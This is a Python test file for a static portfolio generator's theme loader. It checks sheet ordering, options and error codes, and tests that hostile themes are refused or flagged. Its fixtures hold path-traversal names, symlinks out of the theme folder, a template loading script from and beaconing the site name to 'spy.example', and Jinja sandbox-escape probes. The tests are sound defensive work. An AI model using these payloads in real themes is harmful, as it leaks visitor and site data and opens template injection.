"""Where a theme's files are found, what it may say of itself, and what a stranger's may not do."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from tests.folio import Folio

from whyfolio.build import open_portfolio
from whyfolio.cli.theme_told import given
from whyfolio.diagnostics import Diagnostic
from whyfolio.errors import Refused
from whyfolio.model.audience import Audience
from whyfolio.render.theme import load_theme
from whyfolio.render.theme_check import theme_faults

SITE = 'schema = 1\n[site]\ntitle = "T"\ntheme = "mine"\n'
STORY = "date: 2026-09\nwhat: I did it.\nwhy: It helped.\naudience: public"


def themed(root: Path, words: str = 'extends = "margin"\n') -> Folio:
    folio = Folio.at(root, SITE).entry("stories/one", STORY)
    return folio.write("themes/mine/theme.toml", words)


def refusal(root: Path, audience: str = "") -> Diagnostic:
    with pytest.raises(Refused) as refused:
        load_theme("mine", root, audience)
    return refused.value.diagnostic


def sheets(root: Path, name: str = "mine", audience: str = "") -> list[str]:
    theme = load_theme(name, root, audience)
    return [f"{sheet.parent.parent.name}/{sheet.name}" for sheet in theme.sheets]


def test_own_sheets_come_after_those_of_the_parent_and_overrides_last(tmp_path: Path) -> None:
    themed(tmp_path).write("themes/mine/assets/b.css", "").write("themes/mine/assets/a.css", "")
    (tmp_path / "themes/overrides").mkdir()
    (tmp_path / "themes/overrides/z.css").write_text("")
    found = sheets(tmp_path)
    assert found[0] == "margin/tokens.css"
    assert found[-3:] == ["mine/a.css", "mine/b.css", "themes/z.css"]


def test_a_sheet_of_the_same_name_takes_the_place_of_the_parents(tmp_path: Path) -> None:
    usual = sheets(tmp_path, "margin")
    themed(tmp_path).write("themes/mine/assets/charts.css", "")
    changed = ["mine/charts.css" if name == "margin/charts.css" else name for name in usual]
    assert sheets(tmp_path) == changed


def test_a_theme_that_names_its_sheets_has_those_alone(tmp_path: Path) -> None:
    themed(tmp_path, 'extends = "margin"\nstyles = ["a.css", "tokens.css"]\n')
    Folio(tmp_path).write("themes/mine/assets/a.css", "").write("themes/mine/assets/b.css", "")
    assert sheets(tmp_path) == ["mine/a.css", "margin/tokens.css"]


def test_a_sheet_is_sent_to_the_readers_that_are_named(tmp_path: Path) -> None:
    themed(tmp_path, 'extends = "margin"\n[readers]\n"a.css" = ["private"]\n"packet.css" = []\n')
    Folio(tmp_path).write("themes/mine/assets/a.css", "")
    assert "mine/a.css" in sheets(tmp_path, audience="private")
    assert "mine/a.css" not in sheets(tmp_path, audience="public")
    assert "margin/packet.css" not in sheets(tmp_path, audience="review")
    assert "margin/packet.css" in sheets(tmp_path)


def test_a_sheet_that_waits_for_a_choice_is_sent_where_it_was_made(tmp_path: Path) -> None:
    options = '[options.rail]\nchoices = ["top", "left"]\ndefault = "top"\n'
    words = f'extends = "margin"\n[when]\n"a.css" = {{ rail = "left" }}\n{options}'
    folio = themed(tmp_path, words).write("themes/mine/assets/a.css", ".only-left { margin: 0 }")
    assert "mine/a.css" not in sheets(tmp_path)
    chosen = load_theme("mine", tmp_path, chosen=[("rail", "left")])
    assert chosen.sheets[-1].name == "a.css"
    folio.write("themes/mine/theme.toml", words.replace('default = "top"', 'default = "left"'))
    assert "mine/a.css" in sheets(tmp_path)


def test_options_are_inherited_word_by_word(tmp_path: Path) -> None:
    themed(tmp_path, 'extends = "plain"\n[options.accent]\ndefault = "plum"\n')
    options = {option.name: option for option in load_theme("mine", tmp_path).options}
    assert (options["accent"].default, options["accent"].choices[0]) == ("plum", "pencil")
    assert options["typeface"].default == "sans"
    assert 'data-accent="plum"' in Folio(tmp_path).page("index.html")


@pytest.mark.parametrize(
    ("words", "code", "line", "message"),
    [
        ("extends = margin\n", "E806", 1, "cannot be read"),
        ('extends = "margin"\nstyles = ["../a.css"]\n', "E806", 2, '"../a.css" is no style sheet'),
        ('extends = "margin"\nstyles = ["a.css"]\n', "E805", 1, '"a.css" is no file'),
        ('extends = "mine"\n', "E802", 1, "extends itself"),
        ('\nextends = "margen"\n', "E801", 2, 'no theme called "margen"'),
        ('[options.a]\nchoices = ["x"]\n', "E806", 1, "has no default"),
        ('[options.a]\nchoices = ["x"]\ndefault = "y"\n', "E806", 1, 'the default "y"'),
        ("when = 3\n", "E806", 1, '"when" is no table'),
        ('[when]\n"a.css" = "left"\n', "E806", 2, '"a.css" names no choice'),
        (
            'extends = "margin"\n[when]\n"a.css" = { fonts = "own" }\n',
            *("E806", 1, '"a.css" waits for fonts = "own", which nobody can choose'),
        ),
    ],
)
def test_a_fault_in_a_themes_own_words_is_told_at_its_line(
    tmp_path: Path, words: str, code: str, line: int, message: str
) -> None:
    themed(tmp_path, words)
    found = refusal(tmp_path)
    assert (found.code, found.place.line) == (code, line)
    assert found.place.file == "themes/mine/theme.toml"
    assert message in found.message
    assert code in Folio(tmp_path).codes()


def test_a_theme_that_there_is_not_is_told_where_it_is_named(tmp_path: Path) -> None:
    folio = Folio.at(tmp_path, SITE)
    [found] = open_portfolio(folio.root, folio.today).diagnostics
    assert (found.code, found.place.file, found.place.line) == ("E801", "whyfolio.toml", 4)


@pytest.mark.parametrize(
    "path", ["templates/pages/home.html", "assets/a.css", "templates/partials/x/secret.txt"]
)
def test_no_file_of_a_theme_leads_out_of_its_folder(tmp_path: Path, path: str) -> None:
    for home in ("themes/mine", "themes/overrides"):
        root = tmp_path / home.rpartition("/")[2]
        folio = themed(root).write("content/files/secret.txt", "zqsecret")
        target = folio.root / home / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.symlink_to(folio.root / "content/files/secret.txt")
        found = refusal(root)
        assert (found.code, found.place.file) == ("E805", f"{home}/{path}")


def test_no_folder_of_a_theme_leads_out_of_it(tmp_path: Path) -> None:
    folio = themed(tmp_path / "a").write("content/files/home.html", "zqsecret")
    (folio.root / "themes/mine/templates").mkdir(parents=True)
    (folio.root / "themes/mine/templates/pages").symlink_to(folio.root / "content/files")
    assert refusal(folio.root).code == "E805"


@pytest.mark.parametrize("name", ["../../whyfolio.toml", "/etc/hostname", "..\\secret.txt"])
def test_no_template_or_sheet_is_named_out_of_its_theme(tmp_path: Path, name: str) -> None:
    folio = themed(tmp_path)
    shown = name.replace("\\", "\\\\")
    folio.write("themes/mine/templates/entries/story.html", f'{{% include "{shown}" %}}')
    with pytest.raises(Refused) as refused:
        folio.pages()
    assert refused.value.diagnostic.code == "E804"


HOSTILE = """\
{% extends "base.html" %}
{% block policy %}default-src *{% endblock %}
{% block main %}
<h1>{{ it.title }}</h1>
<script src="//spy.example/a.js"></script>
<img src="https://spy.example/{{ site.name }}.gif" alt="">
{{ it.__class__.__init__.__globals__ }}
{{ it | attr("entry") }}
{% endblock %}
"""


def test_a_hostile_theme_is_told_for_what_it_is(tmp_path: Path) -> None:
    folio = themed(tmp_path).write("themes/mine/templates/entries/story.html", HOSTILE)
    folio.write("themes/mine/assets/a.css", "h1 { background: url(https://spy.example/b.png) }\n")
    found = theme_faults(load_theme("mine", tmp_path), tmp_path, given())
    told = [(fault.code, Path(fault.place.file).name, fault.place.line) for fault in found]
    assert told == [
        ("W803", "a.css", 1),
        ("W803", "story.html", 2),
        ("W803", "story.html", 5),
        ("W803", "story.html", 5),
        ("W803", "story.html", 6),
        ("W804", "story.html", 7),
        ("W804", "story.html", 7),
        ("W804", "story.html", 7),
        ("W804", "story.html", 8),
    ]


def test_a_theme_cannot_show_what_its_readers_may_not_see(tmp_path: Path) -> None:
    folio = themed(tmp_path).entry(
        "stories/two", "date: 2026-08\nwhat: zqhidden words stay here.\n"
    )
    folio.write("themes/mine/templates/pages/home.html", "{{ site }} {{ page }} {{ it }}")
    shown = {a: b"zqhidden" in b"".join(folio.pages(a).values()) for a in Audience}
    assert shown == {Audience.PUBLIC: False, Audience.REVIEW: False, Audience.PRIVATE: True}


def test_a_template_that_smuggles_a_note_is_stopped_by_the_guard(tmp_path: Path) -> None:
    held = "We let the second provider go because their fraud team lied to us."
    folio = themed(tmp_path).entry("stories/two", f"date: 2026-08\nwhat: {held}\n")
    folio.write("themes/mine/templates/pages/home.html", f"<p>{held}</p>")
    result = folio.build(Audience.PUBLIC)
    assert [found.code[:2] for found in result.diagnostics if found.is_error] == ["E9"]
    assert not re.search("fraud team", "".join(found.message for found in result.diagnostics))
    assert not (tmp_path / "site/public/index.html").exists()
